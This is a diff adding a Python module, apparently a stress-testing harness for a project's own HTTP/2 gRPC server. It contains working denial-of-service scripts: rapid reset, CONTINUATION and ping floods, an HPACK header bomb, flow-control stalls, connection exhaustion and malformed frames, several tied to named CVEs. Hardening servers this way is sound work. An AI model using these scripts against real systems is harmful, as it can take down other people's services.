@@ -1,0 +1,241 @@
+"""What hostile clients do to HTTP/2 servers, each as the script of one connection.
+
+A script goes on until it is cancelled or the server has had enough, and is then begun again on a new connection.
+"""
+
+import asyncio
+import random
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass
+from typing import Final
+
+from flywheel_proto.v1 import generation_pb2 as pb
+from h2.errors import ErrorCodes
+from h2.settings import SettingCodes
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from fuzz.http2 import PREFACE, Connection, Tally, call, header_block
+
+BATCH: Final = 100
+"""How many frames, or pairs of them, are written at a time."""
+
+CALL: Final = header_block("GenerateDeltas")
+SHORT: Final = pb.GenerationRequest(text="x", max_tokens=1).SerializeToString()
+LONG: Final = pb.GenerationRequest(text="x", max_tokens=4000, num_samples=16).SerializeToString()
+# Of a dynamic table with one entry, which is as large as the table.
+INSERT_LARGEST: Final = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
+LARGEST: Final = b"\xbe"
+FRAME: Final = 16_384
+"""The largest frame that a server takes unless it says otherwise."""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A script, and on how many connections at a time it runs."""
+
+    name: str
+    script: Callable[[Connection], Awaitable[None]]
+    connections: int = 4
+
+    async def run(self, host: str, port: int, seconds: float) -> Tally:
+        """Attacks for so many seconds; returns what was sent and what came back."""
+        tally = Tally()
+
+        async def keep_attacking() -> None:
+            while True:
+                await self._connect(host, port, tally)
+
+        attackers = [asyncio.create_task(keep_attacking()) for _ in range(self.connections)]
+        await asyncio.wait(attackers, timeout=seconds)
+        for attacker in attackers:
+            attacker.cancel()
+        ended = await asyncio.gather(*attackers, return_exceptions=True)
+        if failures := [error for error in ended if not isinstance(error, asyncio.CancelledError)]:
+            raise RuntimeError("the attack itself failed") from failures[0]
+        return tally
+
+    async def _connect(self, host: str, port: int, tally: Tally) -> None:
+        try:
+            reader, writer = await asyncio.open_connection(host, port)
+        except ConnectionError:
+            tally.answers["refused"] += 1
+            await asyncio.sleep(0.1)
+            return
+        tally.connections += 1
+        connection = Connection(reader, writer, tally)
+        script = asyncio.ensure_future(self.script(connection))
+        reading = asyncio.create_task(connection.read())
+        try:
+            await asyncio.wait((reading, script), return_when=asyncio.FIRST_COMPLETED)
+            if script.done() and not isinstance(script.exception(), ConnectionError):
+                script.result()
+        finally:
+            connection.close()
+            reading.cancel()
+            script.cancel()
+            await asyncio.gather(reading, script, return_exceptions=True)
+
+
+async def rapid_reset(connection: Connection) -> None:
+    """Begins calls and takes each back at once (CVE-2023-44487)."""
+    await connection.start()
+    while True:
+        frames: list[Frame] = []
+        for _ in range(BATCH):
+            stream = connection.new_stream()
+            frames += call(stream, CALL, SHORT)
+            frames.append(RstStreamFrame(stream, error_code=ErrorCodes.CANCEL))
+        await connection.send(frames)
+
+
+async def made_you_reset(connection: Connection) -> None:
+    """Begins calls and has the server take each back, by a window update of nothing (CVE-2025-8671)."""
+    await connection.start()
+    while True:
+        frames: list[Frame] = []
+        for _ in range(BATCH):
+            stream = connection.new_stream()
+            frames += call(stream, CALL, SHORT)
+            # hyperframe does not make one that is wrong.
+            frames.append(_Raw(stream, b"\0\0\0\0", kind=WindowUpdateFrame.type))
+        await connection.send(frames)
+
+
+async def unfinished_calls(connection: Connection) -> None:
+    """Begins calls without ever sending their message, as many as there may be and more."""
+    await connection.start()
+    while True:
+        await connection.send(HeadersFrame(connection.new_stream(), CALL, flags=["END_HEADERS"]) for _ in range(BATCH))
+
+
+async def ping_flood(connection: Connection) -> None:
+    """Pings without a pause (CVE-2019-9512)."""
+    await connection.start()
+    while True:
+        await connection.send(PingFrame(0, b"flywheel") for _ in range(BATCH))
+
+
+async def settings_flood(connection: Connection) -> None:
+    """Changes settings without a pause (CVE-2019-9515)."""
+    await connection.start()
+    while True:
+        await connection.send(
+            SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65_535 - number % 2}) for number in range(BATCH)
+        )
+
+
+async def empty_data_flood(connection: Connection) -> None:
+    """Sends parts of a message that have nothing in them (CVE-2019-9518)."""
+    await connection.start()
+    stream = connection.new_stream()
+    await connection.send([HeadersFrame(stream, CALL, flags=["END_HEADERS"])])
+    while True:
+        await connection.send(DataFrame(stream, b"") for _ in range(BATCH))
+
+
+async def header_bomb(connection: Connection) -> None:
+    """Sends headers that are 4 KiB long when they are unpacked, and one byte before (CVE-2016-6581)."""
+    await connection.start()
+    stream = connection.new_stream()
+    await connection.send([HeadersFrame(stream, CALL + INSERT_LARGEST, flags=["END_HEADERS"])])
+    block = CALL + LARGEST * (FRAME - len(CALL))
+    while True:
+        await connection.send([HeadersFrame(connection.new_stream(), block, flags=["END_HEADERS", "END_STREAM"])])
+
+
+async def large_headers(connection: Connection) -> None:
+    """Begins calls with a MiB of metadata each."""
+    await connection.start()
+    block = header_block("GenerateDeltas", *((f"x-{number}", "a" * 8000) for number in range(160)))
+    parts = [block[start : start + FRAME] for start in range(0, len(block), FRAME)]
+    while True:
+        stream = connection.new_stream()
+        frames: list[Frame] = [HeadersFrame(stream, parts[0])]
+        frames += [ContinuationFrame(stream, part) for part in parts[1:]]
+        frames[-1].flags.add("END_HEADERS")
+        await connection.send(frames)
+
+
+async def continuation_flood(connection: Connection) -> None:
+    """Begins a call whose metadata never ends (CVE-2024-27316)."""
+    await connection.start()
+    stream = connection.new_stream()
+    await connection.send([HeadersFrame(stream, CALL)])
+    part = b"\x10\x01x\x01a" * BATCH  # a header of one letter, over and over
+    while True:
+        await connection.send(ContinuationFrame(stream, part) for _ in range(BATCH))
+
+
+async def window_stall(connection: Connection) -> None:
+    """Begins long calls and never grants the server a byte to answer them (CVE-2019-9517)."""
+    await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    for _ in range(BATCH):
+        await connection.send(call(connection.new_stream(), CALL, LONG))
+    await asyncio.Event().wait()
+
+
+async def half_open(connection: Connection) -> None:
+    """Sends the first line of the protocol slower than anybody would wait for."""
+    for byte in PREFACE:
+        await connection.send_bytes(bytes([byte]))
+        connection.tally.sent += 1
+        await asyncio.sleep(5)
+
+
+async def idle_connections(connection: Connection) -> None:
+    """Connects, and does nothing."""
+    await connection.start()
+    await asyncio.Event().wait()
+
+
+async def random_frames(connection: Connection) -> None:
+    """Sends frames of any kind, with anything in them, to any of a few streams."""
+    await connection.start()
+    rng = random.Random(connection.tally.connections)
+    while True:
+        stream = connection.new_stream()
+        frames = call(stream, CALL, SHORT)
+        for _ in range(rng.randrange(4)):
+            payload = rng.randbytes(rng.choice((0, 4, 5, 6, 8, rng.randrange(100))))
+            frames.insert(rng.randrange(3), _Raw(rng.choice((0, 1, stream)), payload, rng.randrange(12), rng.randrange(256)))
+        await connection.send(frames)
+
+
+class _Raw(Frame):
+    """A frame that may be wrong in every way."""
+
+    def __init__(self, stream: int, payload: bytes, kind: int, flags: int = 0) -> None:
+        super().__init__(0)
+        self._serialized = b"".join(
+            (len(payload).to_bytes(3), bytes((kind, flags)), stream.to_bytes(4), payload),
+        )
+
+    def serialize(self) -> bytes:
+        """Returns the frame as it is sent."""
+        return self._serialized
+
+
+ATTACKS: Final = (
+    Attack("rapid reset", rapid_reset),
+    Attack("made you reset", made_you_reset),
+    Attack("unfinished calls", unfinished_calls),
+    Attack("ping flood", ping_flood),
+    Attack("settings flood", settings_flood),
+    Attack("empty data flood", empty_data_flood),
+    Attack("header bomb", header_bomb),
+    Attack("large headers", large_headers),
+    Attack("continuation flood", continuation_flood),
+    Attack("window stall", window_stall),
+    Attack("half-open connections", half_open, connections=500),
+    Attack("idle connections", idle_connections, connections=1500),
+    Attack("random frames", random_frames, connections=8),
+)
